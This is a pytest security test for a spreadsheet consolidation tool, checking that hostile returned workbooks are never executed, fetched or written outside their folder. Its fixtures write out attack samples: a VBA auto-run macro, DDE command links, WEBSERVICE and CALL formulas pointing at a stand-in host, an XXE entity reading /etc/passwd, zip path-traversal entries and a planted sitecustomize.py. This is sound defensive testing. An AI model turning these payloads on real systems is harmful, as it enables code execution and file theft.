"""Nothing in a returned file is run, followed or fetched, and nothing is written outside the folder of the round."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hostile_round import ordinary

from smx_xl import pipeline, plan, workbook
from smx_xl.model.plan import Plan
from smx_xl.workbook import Filling

ROOT = Path(__file__).parents[2]
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://127.0.0.1:9/evil"
READER = "smx_xl.returns.reader_process"


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="rIdEvil" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def add_relation(parts: dict[str, str], part: str, text: str) -> None:
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    parts[part] = parts.get(part, empty).replace("</Relationships>", text)


def macro(parts: dict[str, str]) -> None:
    add_relation(parts, "xl/_rels/workbook.xml.rels", relation("vbaProject", "vbaProject.bin", "Internal"))
    parts["xl/vbaProject.bin"] = "Sub Auto_Open()\nShell(Environ(0))\nEnd Sub"


def linked(parts: dict[str, str]) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd"'
        ' ddeTopic="/c touch evil"/></externalLink>'
    )
    add_relation(
        parts, "xl/_rels/workbook.xml.rels", relation("externalLink", "externalLinks/externalLink1.xml", "Internal")
    )
    add_relation(parts, "xl/externalLinks/_rels/externalLink1.xml.rels", relation("externalLinkPath", EVIL))


def picture(parts: dict[str, str]) -> None:
    add_relation(parts, "xl/worksheets/_rels/sheet2.xml.rels", relation("image", EVIL))
    add_relation(parts, "_rels/.rels", relation("attachedTemplate", EVIL))


def remote_sheet(parts: dict[str, str]) -> None:
    rels = parts["xl/_rels/workbook.xml.rels"]
    parts["xl/_rels/workbook.xml.rels"] = rels.replace(
        'Target="worksheets/sheet2.xml"', f'Target="{EVIL}" TargetMode="External"'
    )


def formulas(parts: dict[str, str]) -> None:
    calls = f'<f>WEBSERVICE("{EVIL}")+cmd|\'/c touch evil\'!A0+HYPERLINK("{EVIL}")+CALL("libc","system","J")</f>'
    parts["xl/worksheets/sheet2.xml"] = parts["xl/worksheets/sheet2.xml"].replace("<f>", calls + "<f>", 1)


def entities(parts: dict[str, str]) -> None:
    subset = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "{EVIL}"> %b;]>'
    parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].replace("<sst", subset + "<sst", 1)


def outside(parts: dict[str, str]) -> None:
    parts["../../../../evil.py"] = "import os; os.system('touch evil')"
    parts["/tmp/evil.txt"] = "evil"
    parts["C:\\evil.exe"] = "MZ"


def template(parts: dict[str, str]) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace("sheet.main+xml", "sheet.macroEnabled.main+xml")


DAMAGE: tuple[Callable[[dict[str, str]], None], ...] = (
    macro, linked, picture, remote_sheet, formulas, entities, outside, template,
)  # fmt: skip
FILES = {
    "网页.xlsx": b"<html><script src='" + EVIL.encode() + b"'></script></html>",
    "快捷方式.url": b"[InternetShortcut]\nURL=" + EVIL.encode(),
    "sitecustomize.py": b"import os; os.system('touch evil')",
    "smx_xl.py": b"raise SystemExit('taken over')",
    "宏.xlsm": b"PK\x03\x04broken",
    "运行.exe": b"MZ\x90",
}


def damaged(whole: Plan, number: int, damage: Callable[[dict[str, str]], None]) -> bytes:
    owner = whole.units[number % len(whole.units)]
    filling = Filling(actuals={indicator.id: float(number) for indicator in owner.indicators})
    content = workbook.book(whole, owner, pipeline.seal_key(whole), filling=filling)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    damage(parts)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return stream.getvalue()


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A round full of files that want to be more than figures, and a good one."""
    folder = tmp_path / "round"
    inbox = folder / "收件"
    inbox.mkdir(parents=True)
    whole = ordinary()
    plan.write(whole, folder / "目标库.xlsx")
    for number, damage in enumerate(DAMAGE):
        (inbox / f"{damage.__name__}.xlsx").write_bytes(damaged(whole, number, damage))
    for name, content in FILES.items():
        (inbox / name).write_bytes(content)
    (inbox / "good.xlsx").write_bytes(damaged(whole, 5, lambda parts: None))
    if sys.platform != "win32":
        (inbox / "passwd.xlsx").symlink_to("/etc/passwd")
        (inbox / "away").symlink_to(tmp_path)
        os.mkfifo(inbox / "pipe.xlsx")
    return folder


def consolidated(folder: Path, temporary: Path, *before: str, **more: str) -> None:
    """Run a consolidation as its user would, in the folder itself."""
    temporary.mkdir(exist_ok=True)
    environment = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "PYTHONDONTWRITEBYTECODE": "1",
        "TMPDIR": str(temporary),
        **more,
    }
    command = [*before, sys.executable, "-m", "smx_xl", "consolidate", str(folder), "--json"]
    done = subprocess.run(command, env=environment, cwd=ROOT, capture_output=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr.decode()[-2000:] + done.stdout.decode()[-2000:]
    assert {unit["state"] for unit in json.loads(done.stdout)["units"]} >= {"accepted"}, "the good one counts"


def test_nothing_is_run_fetched_or_written_elsewhere(hostile: Path, tmp_path: Path) -> None:
    log, temporary = tmp_path / "watched.txt", tmp_path / "temporary"
    path = os.pathsep.join((str(Path(__file__).parent / "watching"), str(ROOT)))
    consolidated(hostile, temporary, PYTHONPATH=path, SMX_WATCH_LOG=str(log))
    lines = log.read_text("utf-8", "replace").splitlines()
    assert sum(line.startswith("watching ") for line in lines) >= 2, "the reader's process was watched as well"
    assert [line for line in lines if line.startswith("fetch")] == []
    assert [line for line in lines if line.startswith("start") and READER not in line] == []
    written = {line.split(" ", 1)[1] for line in lines if line.startswith(("write", "change"))}
    assert str(hostile / "市级总表.xlsx") in written
    allowed = (f"{hostile}{os.sep}", str(temporary), os.devnull)  # the master is put together in temporary files
    assert {each for each in written if not each.startswith(allowed)} == set()
    assert {each for each in written if "收件" in each} == set(), "returned files are never touched"
    assert not list(tmp_path.rglob("evil*"))
    assert list(temporary.iterdir()) == []


@pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not installed")
def test_the_kernel_sees_no_socket_and_no_other_program(hostile: Path, tmp_path: Path) -> None:
    log = tmp_path / "traced.txt"
    trace = ("strace", "-f", "-qq", "-o", str(log), "-e", "trace=execve,execveat,socket,connect,sendto")
    consolidated(hostile, tmp_path / "temporary", *trace)
    lines = log.read_text("utf-8", "replace").splitlines()
    programs = [line for line in lines if "execve" in line]
    assert len(programs) >= 2
    assert [line for line in programs if "python" not in line] == []
    assert [line for line in lines if "AF_INET" in line] == []
